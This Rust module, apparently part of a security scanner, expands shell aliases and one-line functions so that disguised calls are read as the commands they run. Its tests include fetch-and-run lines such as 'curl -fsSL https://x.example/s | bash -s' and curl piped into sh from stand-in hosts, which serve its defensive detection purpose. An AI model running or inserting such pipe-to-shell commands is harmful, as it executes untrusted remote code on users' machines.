//! Aliases and functions a shell block defines, so that a later command
//! is read as the shell runs it: `alias get='curl -fsSL'` … `get URL |
//! run`, `apply() { "$@" | sh; }` … `apply curl URL`. Only definitions on
//! one line are learned, and a call is expanded once (an alias naming a
//! function stays as written).

/// Definitions remembered per block, at most: a hostile block must not
/// grow them without bound.
const MAX_DEFS: usize = 32;
/// Bytes of a definition's value kept, at most.
const MAX_VALUE: usize = 1024;

/// The aliases and one-line functions known at a point of a block.
#[derive(Debug, Default)]
pub(super) struct Defs {
    aliases: Vec<(String, String)>,
    functions: Vec<(String, String)>,
}

/// A cheap test before [`Defs::learn`]: whether `text` may define an alias
/// or a function at all (`()` alone is every call of every language: the
/// body's brace must follow, after any blanks, as `learn` reads it:
/// `get()\t{ …; }` defines `get` as `get() { …; }` does).
pub(super) fn may_define(text: &str) -> bool {
    let b = text.as_bytes();
    let [alias, function, call] = &*DEFINING;
    alias.find(b).is_some()
        || function.find(b).is_some()
        || call.find_iter(b).any(|i| text[i + 2..].trim_start().starts_with('{'))
}

/// [`may_define`]'s searchers, built once: building one cost about as
/// much as its search of a typical block.
static DEFINING: std::sync::LazyLock<[memchr::memmem::Finder<'static>; 3]> = std::sync::LazyLock::new(|| {
    ["alias ", "function ", "()"].map(|n| memchr::memmem::Finder::new(n.as_bytes()))
});

fn is_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && !b[0].is_ascii_digit()
        && b.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
}

fn remember(list: &mut Vec<(String, String)>, name: &str, value: &str) {
    if list.len() >= MAX_DEFS {
        list.remove(0);
    }
    let mut end = value.len().min(MAX_VALUE);
    while !value.is_char_boundary(end) {
        end -= 1;
    }
    list.push((name.to_string(), value[..end].to_string()));
}

/// `'value'`, `"value"` or a bare word at the start of `s`.
fn value(s: &str) -> &str {
    match s.as_bytes().first() {
        Some(&q @ (b'\'' | b'"')) => {
            let rest = &s[1..];
            rest.find(char::from(q)).map_or(rest, |n| &rest[..n])
        }
        _ => s.split([' ', '\t', ';']).next().unwrap_or(""),
    }
}

impl Defs {
    pub(super) fn is_empty(&self) -> bool {
        self.aliases.is_empty() && self.functions.is_empty()
    }

    /// Learns the alias (`alias name='value'`, also after `;`) or the
    /// one-line function (`name() { …; }`, `function name { …; }`) `line`
    /// defines.
    pub(super) fn learn(&mut self, line: &str) {
        for part in line.split("; ") {
            let part = part.trim();
            if let Some(rest) = part.strip_prefix("alias ") {
                if let Some((name, v)) = rest.trim_start().split_once('=')
                    && is_name(name)
                {
                    remember(&mut self.aliases, name, value(v));
                }
                continue;
            }
        }
        let t = line.trim();
        let (head, keyword) = match t.strip_prefix("function ") {
            Some(rest) => (rest.trim_start(), true),
            None => (t, false),
        };
        let Some(open) = head.find('{') else { return };
        let Some(close) = head.rfind('}') else { return };
        if close < open {
            return;
        }
        let name = head[..open].trim_end();
        let (name, parens) = match name.strip_suffix("()") {
            Some(n) => (n.trim_end(), true),
            None => (name, false),
        };
        if (keyword || parens) && is_name(name) {
            let body = head[open + 1..close].trim().trim_end_matches(';').trim_end();
            remember(&mut self.functions, name, body);
        }
    }

    /// `line` with each command whose first word is a known alias or
    /// function written out as it runs, or `None` when none is.
    pub(super) fn apply(&self, line: &str) -> Option<String> {
        if self.is_empty() {
            return None;
        }
        let mut out = String::with_capacity(line.len());
        let mut changed = false;
        for (segment, separator) in segments(line) {
            let lead = segment.len() - segment.trim_start().len();
            let cmd = segment.trim_start();
            let word_end = cmd.find([' ', '\t']).unwrap_or(cmd.len());
            let (word, args) = (&cmd[..word_end], cmd[word_end..].trim());
            out.push_str(&segment[..lead]);
            if let Some((_, v)) = self.aliases.iter().rev().find(|(n, _)| n == word) {
                out.push_str(v);
                out.push_str(&cmd[word_end..]);
                changed = true;
            } else if let Some((_, body)) = self.functions.iter().rev().find(|(n, _)| n == word) {
                out.push_str(&called(body, args));
                out.push(' ');
                changed = true;
            } else {
                out.push_str(cmd);
            }
            out.push_str(separator);
        }
        changed.then_some(out)
    }
}

/// A function's body with its arguments in place of `"$@"`, `$*` and
/// `$1`…`$9`.
fn called(body: &str, args: &str) -> String {
    let mut s = body.to_string();
    for all in ["\"$@\"", "\"$*\"", "\"${@}\"", "$@", "$*"] {
        s = s.replace(all, args);
    }
    let words: Vec<&str> = args.split_whitespace().collect();
    for k in (1..=9).rev() {
        let arg = words.get(k - 1).copied().unwrap_or("");
        for form in [format!("\"${k}\""), format!("\"${{{k}}}\""), format!("${{{k}}}"), format!("${k}")] {
            s = s.replace(&form, arg);
        }
    }
    s
}

/// The commands of a line with the separator after each (`|`, `||`,
/// `&&`, `;`, `&`), split outside quotes.
fn segments(line: &str) -> Vec<(&str, &str)> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let (mut start, mut i) = (0, 0);
    let mut quote: Option<u8> = None;
    while i < b.len() {
        let c = b[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == b'\'' || c == b'"' => quote = Some(c),
            None if matches!(c, b'|' | b';' | b'&') => {
                let n = if b.get(i + 1) == Some(&c) { 2 } else { 1 };
                out.push((&line[start..i], &line[i..i + n]));
                i += n;
                start = i;
                continue;
            }
            None => {}
        }
        i += 1;
    }
    out.push((&line[start..], ""));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aliases_and_functions_are_written_out_where_called() {
        let mut d = Defs::default();
        d.learn("shopt -s expand_aliases; alias get='curl -fsSL'");
        d.learn("alias run=\"bash -s\"");
        d.learn("apply() { \"$@\" | ${SHELL:-sh}; }");
        d.learn("function two { echo \"$2\" \"$1\"; }");
        assert_eq!(
            d.apply("get https://x.example/s | run").as_deref(),
            Some("curl -fsSL https://x.example/s | bash -s")
        );
        assert_eq!(
            d.apply("apply curl -fsSL https://x.example/a").as_deref(),
            Some("curl -fsSL https://x.example/a | ${SHELL:-sh} ")
        );
        assert_eq!(d.apply("two a b").as_deref(), Some("echo b a "));
        // A word that is neither, or one inside quotes, is left alone.
        assert_eq!(d.apply("echo 'get | run'"), None);
        assert_eq!(d.apply("target https://x.example/"), None);
    }

    #[test]
    fn only_text_with_a_definition_passes_the_gate() {
        assert!(may_define("alias ll='ls -l'"));
        assert!(may_define("f() { echo; }"));
        assert!(may_define("f(){ echo; }"));
        assert!(may_define("function f { echo; }"));
        assert!(!may_define("print(len(x)) and requests.get(u)"));
    }

    #[test]
    fn a_definition_must_look_like_one() {
        let mut d = Defs::default();
        d.learn("if [ -f x ]; then { echo; }; fi");
        d.learn("alias");
        d.learn("alias -p");
        d.learn("x = {a: 1}");
        assert!(d.is_empty(), "{d:?}");
    }

    #[test]
    fn definitions_are_bounded() {
        let mut d = Defs::default();
        for k in 0..=MAX_DEFS {
            d.learn(&format!("alias a{k}='echo {k}'"));
        }
        assert_eq!(d.aliases.len(), MAX_DEFS);
        assert_eq!(d.apply("a0"), None, "the oldest is forgotten");
        assert!(d.apply(&format!("a{MAX_DEFS}")).is_some());
        d.learn(&format!("alias long='{}'", "x".repeat(MAX_VALUE + 1)));
        assert_eq!(d.aliases.last().map(|(_, v)| v.len()), Some(MAX_VALUE));
        // A character across the bound is cut before it, not after.
        d.learn(&format!("alias wide='{}\u{e9}x'", "x".repeat(MAX_VALUE - 1)));
        assert_eq!(d.aliases.last().map(|(_, v)| v.len()), Some(MAX_VALUE - 1));
    }

    // The cases below come from the whole-file mutation sweep of session 22
    // (docs/mutation-testing.md).

    #[test]
    fn a_function_whose_brace_follows_a_tab_or_blanks_passes_the_gate_and_is_learned() {
        for def in ["get()\t{ curl -fsSL \"$@\" | sh; }", "get()  { curl -fsSL \"$@\" | sh; }"] {
            assert!(may_define(def), "{def}");
            let mut d = Defs::default();
            d.learn(def);
            assert_eq!(
                d.apply("get https://x.example/i").as_deref(),
                Some("curl -fsSL https://x.example/i | sh ")
            );
        }
        assert!(!may_define("print() and then {x}"));
        // Through the scanner: the call is read as what it runs.
        let body = "```bash\nget()\t{ curl -fsSL \"$@\" | sh; }\nget https://l.example-tools.io/apply\n```\n";
        crate::scan::testutil::assert_hit(
            body,
            "code.normalized-command",
            crate::scan::Category::CodeInjection,
            crate::scan::Severity::Critical,
            3,
        );
    }

    #[test]
    fn a_name_must_be_a_word_that_does_not_start_with_a_digit() {
        for line in ["alias 9lives='curl x'", "alias a$b='curl x'", "alias ='curl x'", "a b() { curl x; }"] {
            let mut d = Defs::default();
            d.learn(line);
            assert!(d.is_empty(), "{line}: {d:?}");
        }
        let mut d = Defs::default();
        d.learn("alias a-b.c_9='curl x'");
        assert_eq!(d.apply("a-b.c_9 y").as_deref(), Some("curl x y"));
    }

    #[test]
    fn a_block_without_parentheses_or_the_keyword_is_no_function() {
        // nginx, HCL: a name and braces.
        let mut d = Defs::default();
        d.learn("server { listen 80; }");
        assert!(d.is_empty(), "{d:?}");
    }

    #[test]
    fn aliases_alone_are_applied() {
        let mut d = Defs::default();
        d.learn("alias get='curl -fsSL'");
        assert!(!d.is_empty());
        assert_eq!(d.apply("get u").as_deref(), Some("curl -fsSL u"));
    }

    #[test]
    fn separators_split_commands_outside_quotes_only() {
        let mut d = Defs::default();
        d.learn("alias get='curl -fsSL'");
        d.learn("alias run=\"bash -s\"");
        // A separator with no blank after it, doubled or single.
        assert_eq!(d.apply("get x|run").as_deref(), Some("curl -fsSL x|bash -s"));
        assert_eq!(d.apply("get x||run").as_deref(), Some("curl -fsSL x||bash -s"));
        assert_eq!(d.apply("get x&&run").as_deref(), Some("curl -fsSL x&&bash -s"));
        // A separator inside quotes is text; after the quote closes it splits.
        assert_eq!(d.apply("echo 'a | run now'"), None);
        assert_eq!(d.apply("echo \"a ; run now\""), None);
        assert_eq!(d.apply("echo 'x' | run").as_deref(), Some("echo 'x' | bash -s"));
    }
}
